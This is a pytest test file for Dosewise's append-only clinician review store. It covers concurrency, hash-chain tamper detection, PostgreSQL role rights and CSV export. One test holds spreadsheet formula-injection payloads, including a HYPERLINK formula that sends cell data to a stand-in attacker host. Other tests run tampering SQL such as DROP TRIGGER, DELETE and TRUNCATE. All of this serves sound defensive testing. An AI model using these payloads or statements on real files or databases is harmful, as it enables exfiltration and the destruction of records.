"""The review store: validated, append-only, exportable, safe under concurrent writers."""

from __future__ import annotations

import multiprocessing
import os
import threading
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
import sqlalchemy as sa
from pydantic import ValidationError
from typer.testing import CliRunner

from dosewise.app.cli import app
from dosewise.app.review_db_cli import provision_postgres
from dosewise.app.review_export import neutralise_cell
from dosewise.app.review_store import ReviewConflictError, ReviewIntegrityError, ReviewStore, ReviewStoreError
from dosewise.app.review_tables import reviews_table
from dosewise.data_schemas import REVIEW_COLUMNS, BadInputError
from tests.app.reviews import make_review

runner = CliRunner()


@pytest.fixture
def store(tmp_path: Path) -> ReviewStore:
    return ReviewStore(f"sqlite:///{tmp_path / 'reviews.db'}")


def test_append_and_read_round_trip(store: ReviewStore) -> None:
    review = make_review(bin_start=datetime(2150, 1, 1, 4), given_fluid_ml_4h=250.0)
    store.append(review)
    frame = store.read()
    assert list(frame.columns) == list(REVIEW_COLUMNS)
    row = frame.iloc[0]
    assert row["reviewer"] == "dr-a" and row["verdict"] == "partly" and row["step"] == 0
    assert row["given_fluid_ml_4h"] == 250.0 and pd.isna(row["recommended_fluid_ml_4h"])
    assert row["bin_start"] == pd.Timestamp("2150-01-01 04:00", tz="UTC")
    assert row["reviewed_at"].tzinfo is not None


def test_sqlite_runs_in_wal_mode(store: ReviewStore) -> None:
    store.append(make_review())
    with store.engine.connect() as conn:
        assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"


def test_rows_cannot_be_updated_or_deleted(store: ReviewStore) -> None:
    store.append(make_review())
    for statement in ("UPDATE clinician_reviews SET verdict = 'agree'", "DELETE FROM clinician_reviews"):
        with pytest.raises(sa.exc.IntegrityError, match="append-only"), store.engine.begin() as conn:
            conn.exec_driver_sql(statement)
    assert store.read()["verdict"].tolist() == ["partly"]


def test_resubmitting_the_same_review_is_stored_once(store: ReviewStore) -> None:
    review = make_review()
    store.append(review)
    store.append(review)
    assert store.count() == 1


def test_filters_by_stay_and_reviewer(store: ReviewStore) -> None:
    store.append_many([make_review(episode_id="ep001"), make_review(reviewer="dr-b"), make_review()])
    assert len(store.read(episode_id="ep001")) == 1
    assert len(store.read(reviewer="dr-b")) == 1
    assert len(store.read(episode_id="ep000", reviewer="dr-a")) == 1


def test_export_csv_and_parquet(store: ReviewStore, tmp_path: Path) -> None:
    store.append_many([make_review(step=s) for s in range(3)])
    csv = store.export(tmp_path / "out" / "reviews.csv")
    parquet = store.export(tmp_path / "reviews.parquet")
    assert pd.read_csv(csv)["step"].tolist() == [0, 1, 2]
    assert pd.read_parquet(parquet)["step"].tolist() == [0, 1, 2]
    with pytest.raises(BadInputError, match="Cannot export"):
        store.export(tmp_path / "reviews.xlsx")


def test_schema_rejects_bad_reviews() -> None:
    with pytest.raises(ValidationError, match="verdict"):
        make_review(verdict="maybe")
    with pytest.raises(ValidationError, match="reviewer_fluid_ml_4h"):
        make_review(reviewer_fluid_ml_4h=-1.0)
    with pytest.raises(ValidationError, match="dataset_sha256"):
        make_review(dataset_sha256="not-a-hash")
    with pytest.raises(ValidationError, match="reviewer"):
        make_review(reviewer="  ")
    assert make_review(reviewed_at=datetime(2026, 1, 1, 12)).reviewed_at.tzinfo == UTC


def test_unreachable_database_is_a_clear_error(tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    with pytest.raises(ReviewStoreError, match="Cannot create the folder"):
        ReviewStore(f"sqlite:///{blocker / 'sub' / 'reviews.db'}").append(make_review())
    dead = ReviewStore("postgresql+psycopg://nobody@127.0.0.1:1/reviews")
    with pytest.raises(ReviewStoreError, match=r"review database .*127\.0\.0\.1"):
        dead.append(make_review())
    with pytest.raises(BadInputError, match="not a database URL"):
        ReviewStore("not a url")


def test_concurrent_threads_lose_nothing(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'reviews.db'}"
    writers, per_writer = 8, 10
    errors: list[BaseException] = []

    def write(w: int) -> None:
        store = ReviewStore(url)
        try:
            for i in range(per_writer):
                store.append(make_review(reviewer=f"dr-{w}", step=i))
        except BaseException as exc:  # collected and asserted below
            errors.append(exc)

    threads = [threading.Thread(target=write, args=(w,)) for w in range(writers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert errors == []
    frame = ReviewStore(url).read()
    assert len(frame) == writers * per_writer
    assert frame.groupby("reviewer").size().tolist() == [per_writer] * writers


def _write_in_process(url: str, writer: int, count: int) -> None:
    store = ReviewStore(url)
    for i in range(count):
        store.append(make_review(reviewer=f"proc-{writer}", step=i))


def test_concurrent_processes_lose_nothing(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'reviews.db'}"
    context = multiprocessing.get_context("spawn")
    procs = [context.Process(target=_write_in_process, args=(url, w, 10)) for w in range(3)]
    for p in procs:
        p.start()
    for p in procs:
        p.join(timeout=120)
    assert [p.exitcode for p in procs] == [0] * 3
    assert ReviewStore(url).count() == 30


@pytest.mark.skipif(
    "DOSEWISE_TEST_POSTGRES_URL" not in os.environ,
    reason="set DOSEWISE_TEST_POSTGRES_URL to a scratch PostgreSQL database to run",
)
def test_postgres_store_is_append_only_and_concurrent() -> None:
    url = os.environ["DOSEWISE_TEST_POSTGRES_URL"]
    probe = ReviewStore(url)
    before = probe.count()
    threads = [threading.Thread(target=_write_in_process, args=(url, w, 10)) for w in range(5)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert probe.count() == before + 50
    assert probe.check_integrity().rows == before + 50  # the chain held under concurrent writers
    with pytest.raises(sa.exc.DBAPIError, match="append-only"), probe.engine.begin() as conn:
        conn.exec_driver_sql("DELETE FROM clinician_reviews")
    assert probe.count() == before + 50
    assert probe.check_integrity().rows == before + 50  # the chain held under concurrent writers


def test_same_review_id_with_other_content_is_an_error(store: ReviewStore) -> None:
    review = make_review(review_id="fixed-id-0001")
    store.append(review)
    store.append(review.model_copy(update={"reviewed_at": datetime(2030, 1, 1, tzinfo=UTC)}))  # a retry
    with pytest.raises(ReviewConflictError, match=r"fixed-id-0001 .*different verdict, comment"):
        store.append(make_review(review_id="fixed-id-0001", verdict="agree", comment="changed"))
    assert store.read()["verdict"].tolist() == ["partly"] and store.count() == 1


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("step", 2**70, "less than or equal to 100000"),
        ("action_given", 2**40, "less than or equal to 10000"),
        ("given_fluid_ml_4h", float("inf"), "finite number"),
        ("recommended_norepi_eq_mcg_kg_min", float("nan"), "finite number"),
        ("reviewer_fluid_ml_4h", float("inf"), "finite number"),
        ("comment", "a\x00b", "NUL"),
    ],
)
def test_schema_guards_ranges(field: str, value: object, message: str) -> None:
    with pytest.raises(ValidationError, match=message):
        make_review(**{field: value})


def test_csv_export_neutralises_formulas_and_nul(store: ReviewStore, tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)"]
    for i, text in enumerate(hostile):
        store.append(make_review(step=i, comment=text, reviewer=f"=dr-{i}"))
    with store.engine.begin() as conn:  # a NUL byte stored before the schema refused them
        old_row = {**make_review(step=9).model_dump(), "comment": "bad\x00byte"}
        conn.execute(reviews_table.insert().values(**old_row))
    text = store.export(tmp_path / "reviews.csv").read_text(encoding="utf-8")
    assert "\x00" not in text and "bad\ufffdbyte" in text
    frame = pd.read_csv(tmp_path / "reviews.csv", keep_default_na=False)
    assert frame["comment"].tolist()[:4] == ["'" + t for t in hostile]
    assert all(name.startswith("'=dr-") for name in frame["reviewer"][:4])
    assert frame["step"].tolist() == [0, 1, 2, 3, 9]  # numbers are left alone
    # The schema strips surrounding whitespace, so a leading tab or CR only comes from older rows.
    assert [neutralise_cell(v) for v in ("\tx", "\rx", "a=b", -1.5)] == ["'\tx", "'\rx", "a=b", -1.5]


def test_rewrite_after_dropping_the_trigger_is_detected(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'reviews.db'}"
    store = ReviewStore(url)
    store.append_many([make_review(step=s) for s in range(3)])
    assert store.check_integrity().rows == 3
    with store.engine.begin() as conn:
        conn.exec_driver_sql("DROP TRIGGER clinician_reviews_no_update")
        conn.exec_driver_sql("UPDATE clinician_reviews SET verdict = 'agree' WHERE step = 1")
    reopened = ReviewStore(url)
    with pytest.raises(ReviewIntegrityError, match=r"review row 2 fails the hash chain .*edited"):
        reopened.check_integrity()
    assert "clinician_reviews_no_update" in reopened.restored_triggers  # and the trigger is back


@pytest.mark.parametrize(("statement", "reason"), [
    (sa.delete(reviews_table).where(reviews_table.c.step == 0), "review is gone"),
    (reviews_table.insert().values(**make_review(step=7).model_dump()), "no chain entry"),
])
def test_deleted_or_slipped_in_rows_break_the_chain(store: ReviewStore, statement: Any, reason: str) -> None:
    store.append_many([make_review(step=s) for s in range(2)])
    with store.engine.begin() as conn:
        conn.exec_driver_sql("DROP TRIGGER IF EXISTS clinician_reviews_no_delete")
        conn.execute(statement)
    report = ReviewStore(store.url).verify()
    assert not report.intact and reason in report.reason


def test_store_from_before_the_chain_is_chained_on_open(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'reviews.db'}"
    store = ReviewStore(url)
    store.append_many([make_review(step=s) for s in range(2)])
    with store.engine.begin() as conn:  # what an older Dosewise left: no chain table
        conn.exec_driver_sql("DROP TABLE clinician_reviews_chain")
    reopened = ReviewStore(url)
    assert reopened.check_integrity().rows == 2 and reopened.chain_started_over == 2
    reopened.append(make_review(step=5))
    assert ReviewStore(url).check_integrity().rows == 3


@pytest.mark.parametrize("url", ["foo://bar/db", "postgresql+nodriver://u@h/db"])
def test_unknown_driver_is_a_clear_error(url: str) -> None:
    with pytest.raises(BadInputError, match=r"must name a database SQLAlchemy knows .*Got `"):
        ReviewStore(url)


@pytest.mark.skipif("DOSEWISE_TEST_POSTGRES_URL" not in os.environ,
                    reason="set DOSEWISE_TEST_POSTGRES_URL to a scratch PostgreSQL database (superuser)")
def test_postgres_app_role_has_no_ddl_rights() -> None:
    admin_url = os.environ["DOSEWISE_TEST_POSTGRES_URL"]
    role, password = "dosewise_app_test", "dosewise-test-pw"
    admin = ReviewStore(admin_url)
    with admin.engine.begin() as conn:
        if conn.exec_driver_sql(f"SELECT 1 FROM pg_roles WHERE rolname = '{role}'").first() is None:
            conn.exec_driver_sql(f"CREATE ROLE {role} LOGIN PASSWORD '{password}'")
    with pytest.raises(BadInputError, match="does not exist"):
        provision_postgres(admin_url, "no_such_role_here")
    provision_postgres(admin_url, role)
    app_url = sa.make_url(admin_url).set(username=role, password=password)
    app_store = ReviewStore(app_url.render_as_string(hide_password=False))
    app_store.append(make_review())
    rights = app_store.role_rights()
    assert rights is not None and rights.role == role and not rights.can_ddl
    assert f"role {role} may only SELECT and INSERT" in app_store.guarantee(app_store.check_integrity())
    for statement in ("DROP TRIGGER clinician_reviews_append_only ON clinician_reviews",
                      "ALTER TABLE clinician_reviews DISABLE TRIGGER ALL",
                      "UPDATE clinician_reviews SET verdict = 'agree'", "DELETE FROM clinician_reviews",
                      "TRUNCATE clinician_reviews_chain", "DROP TABLE clinician_reviews_chain"):
        with pytest.raises(sa.exc.ProgrammingError, match=r"must be owner|permission denied"), \
                app_store.engine.begin() as conn:
            conn.exec_driver_sql(statement)
    assert "WARNING: role" in admin.guarantee(admin.check_integrity())  # the owner could drop them
    result = runner.invoke(app, ["review-db-init", "--admin-url", admin_url, "--app-role", "Bad-Role"])
    assert result.exit_code == 2 and "lower-case PostgreSQL role name" in result.output
